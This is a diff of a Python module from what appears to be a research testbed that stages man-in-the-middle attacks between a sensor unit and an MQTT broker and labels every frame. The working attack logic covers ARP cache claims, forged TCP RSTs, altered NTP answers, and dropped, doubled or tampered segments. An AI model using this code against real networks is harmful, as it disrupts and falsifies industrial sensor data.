@@ -1,20 +1,16 @@
-"""Between one unit and the broker: getting on the path, relaying, editing the stream, leaving.
-
-The module is longer than most because it is one state machine: every method reads what the others leave in
-the connections. What stands alone is beside it: caches, segments, translation, frames.
-"""
+"""Between one unit and the broker: getting on the path, relaying, leaving."""
 
 from collections.abc import Callable
 
 from coldaisle_contracts.addressing import BROKER, INJECTOR, Host
-from coldaisle_contracts.errors import ColdaisleError
 from coldaisle_contracts.plan import Episode
 from coldaisle_contracts.taxonomy import Role
-from coldaisle_contracts.topics import SENSORS
+from coldaisle_contracts.topics import client_id
 from coldaisle_injector import frames, mqtt
 from coldaisle_injector.caches import Caches
-from coldaisle_injector.catalogue import Deliver, Edit, OnPath, Pass, Reading, Swallow
+from coldaisle_injector.catalogue import Double, Edit, Lose, OnPath, Pass, Tamper
 from coldaisle_injector.connection import Connection, Half
+from coldaisle_injector.editing import Editor, OffPathError
 from coldaisle_injector.notes import Notes
 from coldaisle_injector.segments import (
     ACK,
@@ -23,29 +19,24 @@ from coldaisle_injector.segments import (
     SYN,
     Arp,
     Segment,
+    datagram,
+    has_sack,
     is_sound,
     readdress,
     renew,
     translate,
+    with_datagram,
 )
 from coldaisle_injector.wire import Wire
 
+__all__ = ["PATIENCE_NS", "OffPathError", "Path"]
+
 PATIENCE_NS = 15_000_000_000
 """A claim, a copy or a FIN nobody answers for so long ends the run, ns."""
-_MASK = 0xFFFFFFFF
 _IN_FLIGHT = 16
 """More segments than TCP keeps unacknowledged here."""
-
-
-class OffPathError(ColdaisleError):
-    """The attacker is not where the plan needs it."""
-
-    exit_code = 3
-
-    def __init__(self, episode: str, unit: str, what: str) -> None:
-        super().__init__(
-            f"episode {episode}: the attacker {what} between {unit} and the broker; the run is void"
-        )
+_DISCARDED = ("ip.checksum", "tcp.checksum", "tcp.seq", "eth.dst")
+"""Fields that make the broker's kernel discard a frame, or never see it."""
 
 
 class Path:
@@ -60,22 +51,21 @@ class Path:
     """
 
     def __init__(self, unit: Host, wire: Wire, notes: Notes, slot_of: Callable[[int], int]) -> None:
-        self.unit, self._wire, self.notes, self._slot_of = unit, wire, notes, slot_of
+        self.unit, self._wire, self.notes = unit, wire, notes
         self._times = notes.times
         self._caches = Caches(unit, wire, notes)
-        self._attack: OnPath | None = None
-        self._acting = self._leaving = False
-        self._confirmed = self._up = self._down = False
+        self._editor = Editor(unit, wire, notes, slot_of)
+        self._connections = self._editor.connections
+        self._leaving = self._confirmed = self._up = self._down = False
         self._since_ns = 0
-        self._connections: dict[int, Connection] = {}
 
     # -- phases -------------------------------------------------------------------------------------------------
 
     def approach(self, episode: Episode, attack: OnPath) -> None:
         """Claim the unit's place at the broker and the broker's at the unit."""
         self.notes.start(episode)
-        self._attack = attack
-        self._acting = self._leaving = self._confirmed = self._up = self._down = False
+        self._editor.attack, self._editor.acting = attack, False
+        self._leaving = self._confirmed = self._up = self._down = False
         if not self._caches.taken:
             self._connections.clear()  # kept until now for stragglers
         self._since_ns = self._times.wall_ns()
@@ -89,13 +79,13 @@ class Path:
             OffPathError: if no traffic passed in both directions since the approach.
         """
         if not self._confirmed:
-            raise self._off_path("saw no traffic pass")
-        self._acting = True
+            raise self._editor.off_path("saw no traffic pass")
+        self._editor.acting = True
         self.notes.phase("begin")
 
     def leave(self) -> None:
         """Stop acting; restore the caches as soon as no connection needs the attacker any more."""
-        self._acting, self._leaving = False, True
+        self._editor.acting, self._leaving = False, True
         self.notes.phase("end")
         self._restore_if_free()
 
@@ -119,7 +109,7 @@ class Path:
 
     @property
     def _answered(self) -> bool:
-        return not self._caches.unanswered and not any(conn.copies for conn in self._connections.values())
+        return not self._caches.unanswered and not any(conn.waits for conn in self._connections.values())
 
     def insist(self) -> None:
         """Repeat claims nobody answered.
@@ -130,34 +120,39 @@ class Path:
         if self.settled:
             return
         if self._times.wall_ns() - self._since_ns > PATIENCE_NS:
-            raise self._off_path("got no answer")
+            raise self._editor.off_path("got no answer")
         self._caches.insist()
 
-    def copy(self, slot: int, sensor: int, number: int) -> None:
-        """Deliver a reading again, as the next bytes of its connection.
+    # -- what is due between readings ---------------------------------------------------------------------------
 
-        Args:
-            slot: the reading's slot.
-            sensor: its sensor.
-            number: which copy it is, from 1.
+    def copy(self, slot: int, sensor: int, number: int) -> None:
+        """Deliver a reading again; see :meth:`Editor.copy`."""
+        self._since_ns = self._times.wall_ns()
+        self._editor.copy(slot, sensor, number)
+
+    def release(self, slot: int, sensor: int) -> None:
+        """Deliver a reading that was held; see :meth:`Editor.release`."""
+        self._since_ns = self._times.wall_ns()
+        self._editor.release(slot, sensor)
+
+    def clear(self, sensor: int) -> None:
+        """Clear a retained message; see :meth:`Editor.clear`."""
+        self._editor.clear(sensor)
+
+    def reset(self, slot: int, sensor: int) -> None:
+        """Break a sensor's connection: RST to both sides, in each other's name.
 
         Raises:
-            OffPathError: if that reading did not pass.
+            OffPathError: if no connection of that sensor runs through here.
         """
-        for port, conn in self._connections.items():  # noqa: B007 - read after the loop
-            if conn.sensor == sensor and conn.publish[0] == slot and conn.up.last and conn.down.last:
-                break
-        else:
-            raise self._off_path(f"has no reading of sensor {sensor}, slot {slot} to copy")
-        _, data, mid = conn.publish
-        conn.copies.append(mid)
-        self._since_ns = self._times.wall_ns()
-        self._say(conn.up, conn.down, BROKER, data, Role.DUPLICATE, "copy")
-        value = next(mqtt.messages(data)).value.decode()
-        self.notes.act("copy", Reading(slot, sensor, value), port=port, mid=mid, after=value, copy=number)
-
-    def _off_path(self, what: str) -> OffPathError:
-        return OffPathError(self.notes.episode, self.unit.name, what)
+        port, conn = self._editor.live(sensor)
+        for half, other, target in ((conn.up, conn.down, BROKER), (conn.down, conn.up, self.unit)):
+            macs = INJECTOR.mac, target.mac
+            frame = half.speak(other, macs, self._times.wall_ns(), b"", RST)
+            self._editor.send(frame, target, Role.INJECTED, "reset")
+        conn.closed = True
+        victim = client_id(self.unit.name, sensor)
+        self.notes.act("reset", slot=slot, sensor=sensor, port=port, client=victim)
 
     # -- frames that arrive -------------------------------------------------------------------------------------
 
@@ -166,9 +161,18 @@ class Path:
         self._caches.on_arp(arp, frame)
 
     def on_other(self, frame: bytes, *, upward: bool) -> None:
-        """Pass on what is not MQTT, such as NTP, unaltered."""
+        """Pass on what is not MQTT; the attack may put another answer of the NTP server in its place."""
+        relayed = self._reading_is_the_attack
+        self.notes.frame(frame, BROKER, Role.RELAYED, "relay", anomalous=relayed)
         passed = renew(frame, _macs(BROKER if upward else self.unit))
-        self.notes.frame(passed, BROKER, Role.RELAYED, "relay", anomalous=self._reading_is_the_attack)
+        attack, answer = self._editor.attack, datagram(frame)
+        if attack and self._editor.acting and not upward and answer is not None:
+            slot = self._editor.slot
+            forged = attack.on_answer(slot, answer)
+            if forged != answer:
+                passed = with_datagram(frame, _macs(self.unit), forged)
+                self.notes.frame(passed, self.unit, Role.MODIFIED, "alter", anomalous=True)
+                self.notes.act("shift-clock", slot=slot)
         self._wire.send(passed)
 
     def on_segment(self, segment: Segment) -> None:
@@ -185,24 +189,45 @@ class Path:
             self._since_ns = self._times.wall_ns()
         if not upward:  # the capture saw it before the attacker did
             self._note_answer(segment, conn)
+        edit: Edit = Pass()
         if fresh and segment.payload and not (self._leaving and self._answered):
-            half.rewritten[segment.seq] = self._edit(port, conn, segment, upward=upward)
+            half.rewritten[segment.seq], edit = self._editor.edit(port, conn, segment, upward=upward)
+            self._confirm(upward=upward)
             if len(half.rewritten) > _IN_FLIGHT:
                 half.rewritten.pop(next(iter(half.rewritten)))
         payload = half.rewritten.get(segment.seq, segment.payload) if segment.payload else b""
-        self._pass_on(segment, half, other, payload, upward=upward)
+        frame = self._outward(segment, half, other, payload, upward=upward)
+        if frame is not None and upward:
+            self._send_up(segment, frame, payload != segment.payload, conn, edit, port)
+        elif frame is not None:
+            self._wire.send(frame)
         self._restore_if_free()
 
-    def _note_answer(self, segment: Segment, conn: Connection) -> None:
-        """Note a segment of the broker: a consequence where it answers a copy, else relayed."""
-        for message in mqtt.messages(segment.payload) if conn.copies else ():
-            if message.type == mqtt.PUBACK and message.mid in conn.copies:
-                self.notes.frame(segment.frame, BROKER, Role.CONSEQUENCE, "reply", anomalous=True)
-                return
-        self.notes.frame(segment.frame, BROKER, Role.RELAYED, "relay", anomalous=self._reading_is_the_attack)
+    def _confirm(self, *, upward: bool) -> None:
+        """Note that the attacker is on the path once both sides' words passed."""
+        self._up, self._down = self._up or upward, self._down or not upward
+        if self._up and self._down and not self._confirmed and self.taken and not self._leaving:
+            self._confirmed = True
+            self.notes.phase("on_path")
 
-    def _pass_on(self, segment: Segment, half: Half, other: Half, payload: bytes, *, upward: bool) -> None:
-        """Send the segment on in the other side's numbers, unless nothing of it is left."""
+    def _note_answer(self, segment: Segment, conn: Connection) -> None:
+        """Note a segment of the broker: a consequence where it answers what the attacker did, else relayed."""
+        caused = conn.losing or (conn.doubled and has_sack(segment))
+        answers = (
+            message.type == mqtt.PUBACK and message.mid in (*conn.copies, *conn.renamed)
+            for message in mqtt.messages(segment.payload)
+        )
+        if (caused and not segment.payload) or any(answers):
+            conn.doubled = conn.doubled and not has_sack(segment)
+            self.notes.frame(segment.frame, BROKER, Role.CONSEQUENCE, "reply", anomalous=True)
+            return
+        relayed = self._reading_is_the_attack
+        self.notes.frame(segment.frame, BROKER, Role.RELAYED, "relay", anomalous=relayed)
+
+    def _outward(
+        self, segment: Segment, half: Half, other: Half, payload: bytes, *, upward: bool
+    ) -> bytes | None:
+        """Return the segment's frame in the other side's numbers, ``None`` when nothing of it is left."""
         macs = _macs(BROKER if upward else self.unit)
         seq = half.stream.outward(segment.seq)
         ack = other.stream.inward(segment.ack) if segment.flags & ACK else segment.ack
@@ -215,88 +240,55 @@ class Path:
             if upward:
                 role = Role.REMOVED if swallowed else Role.CONSEQUENCE
                 self.notes.frame(segment.frame, self.unit, role, "swallow", anomalous=True)
+            return None
+        if payload != segment.payload:
+            return frames.rewrite(segment, macs, seq, ack, payload)
+        if (seq, ack) != (segment.seq, segment.ack) or not is_sound(segment):
+            return translate(segment, macs, seq, ack)
+        return readdress(segment.frame, *macs)
+
+    def _send_up(
+        self, segment: Segment, frame: bytes, changed: bool, conn: Connection, edit: Edit, port: int
+    ) -> None:
+        """Send a frame to the broker, as often and in the shape the edit wants, and note it."""
+        if self._lost(segment, frame, conn, edit, port):
             return
-        changed = payload != segment.payload
-        if changed:
-            frame = frames.rewrite(segment, macs, seq, ack, payload)
-        elif (seq, ack) != (segment.seq, segment.ack) or not is_sound(segment):
-            frame = translate(segment, macs, seq, ack)
-        else:
-            frame = readdress(segment.frame, *macs)
+        role, act = (Role.MODIFIED, "alter") if changed else (Role.RELAYED, "relay")
+        side = BROKER
+        if isinstance(edit, Tamper) and not edit.field.startswith("mqtt."):
+            frame = frames.tampered(frame, edit.field, edit.value)
+            role, act = Role.MODIFIED, "alter"
+            if edit.field in _DISCARDED:
+                conn.losing[segment.seq] = 0
+                side = self.unit if edit.field == "eth.dst" else BROKER
+        elif conn.losing.pop(segment.seq, None) is not None:
+            role, act = Role.CONSEQUENCE, "repeat"
         self._wire.send(frame)
-        if upward and changed:
-            self.notes.frame(frame, BROKER, Role.MODIFIED, "alter", anomalous=True)
-        elif upward:
-            self.notes.frame(frame, BROKER, Role.RELAYED, "relay", anomalous=self._reading_is_the_attack)
+        touched = role is not Role.RELAYED or self._reading_is_the_attack
+        digest = self.notes.frame(frame, side, role, act, anomalous=touched)
+        if isinstance(edit, Double):
+            conn.doubled = True
+            self._editor.send(frame, BROKER, Role.DUPLICATE, "double")
+        self._editor.note(edit, port, conn, digest)
 
-    # -- messages in them ---------------------------------------------------------------------------------------
-
-    def _edit(self, port: int, conn: Connection, segment: Segment, *, upward: bool) -> bytes:
-        """Return the payload to pass on instead of a new segment's, and note how the stream changes by it."""
-        out, at = b"", segment.seq
-        half = conn.up if upward else conn.down
-        for message in mqtt.messages(segment.payload):
-            if upward and message.type == mqtt.PUBLISH:
-                data = self._publish(port, conn, message)
-            elif not upward and message.type == mqtt.PUBACK and message.mid in conn.copies:
-                conn.copies.remove(message.mid)
-                self._say(conn.up, conn.down, BROKER, b"", Role.INJECTED, "acknowledge")
-                data = b""
-            else:
-                data = message.data
-            half.stream.edit(at, len(message.data), len(data))
-            at = (at + len(message.data)) & _MASK
-            out += data
-        self._up, self._down = self._up or upward, self._down or not upward
-        if self._up and self._down and not self._confirmed and self.taken and not self._leaving:
-            self._confirmed = True
-            self.notes.phase("on_path")
-        return out
-
-    def _publish(self, port: int, conn: Connection, message: mqtt.Message) -> bytes:
-        """Return what becomes of a reading: its own bytes, others, or none."""
-        reading = self._reading(conn, message)
-        data = message.data
-        edit: Edit = Pass()
-        if self._attack and self._acting:
-            edit = self._attack.on_publish(reading)
-        elif self._attack:
-            self._attack.watch(reading)
-        match edit:
-            case Swallow():
-                self.notes.act("swallow", reading, port=port, mid=message.mid)
-                self._acknowledge(conn, message.mid)
-                return b""
-            case Deliver(value) if value != reading.value:
-                data = mqtt.with_value(message, value.encode())
-                self.notes.act("modify", reading, port=port, mid=message.mid, after=value)
-        conn.publish = (reading.slot, data, message.mid)
-        return data
-
-    def _acknowledge(self, conn: Connection, mid: int) -> None:
-        """Acknowledge a reading to the unit in the broker's place."""
-        if conn.down.last is None:
-            raise self._off_path("never heard the broker")
-        self._say(conn.down, conn.up, self.unit, mqtt.puback(mid), Role.INJECTED, "acknowledge")
-
-    def _reading(self, conn: Connection, message: mqtt.Message) -> Reading:
-        """Tell which reading a PUBLISH carries: a unit reports its sensors in order, so the first seen is sensor 1."""
-        slot = self._slot_of(self._times.now_ns())
-        if not conn.sensor:
-            known = {each.sensor for each in self._connections.values() if not each.over}
-            conn.sensor = min({*SENSORS} - known, default=len(SENSORS))
-        return Reading(slot, conn.sensor, message.value.decode("ascii", "replace"))
+    def _lost(self, segment: Segment, frame: bytes, conn: Connection, edit: Edit, port: int) -> bool:
+        """Tell whether a segment is to be lost, now or once more, and note it where it is."""
+        again = conn.losing.get(segment.seq, 0)
+        if isinstance(edit, Lose):
+            again = edit.times
+            self._editor.note(edit, port, conn, "")
+        if not again:
+            return False
+        conn.losing[segment.seq] = again - 1
+        self._since_ns = self._times.wall_ns()
+        role = Role.REMOVED if isinstance(edit, Lose) else Role.CONSEQUENCE
+        self.notes.frame(frame, self.unit, role, "lose", anomalous=True)
+        return True
 
     @property
     def _reading_is_the_attack(self) -> bool:
-        return self._acting and self._attack is not None and self._attack.labels_relayed
-
-    def _say(self, half: Half, other: Half, target: Host, data: bytes, role: Role, act: str) -> None:
-        """Say something in the name of one side of a connection, as the next bytes of its stream."""
-        frame = half.speak(other, _macs(target), self._times.wall_ns(), data)
-        self.notes.spend()
-        self._wire.send(frame)
-        self.notes.frame(frame, target, role, act, anomalous=True)
+        attack = self._editor.attack
+        return self._editor.acting and attack is not None and attack.labels_relayed
 
 
 def _macs(target: Host) -> tuple[str, str]:
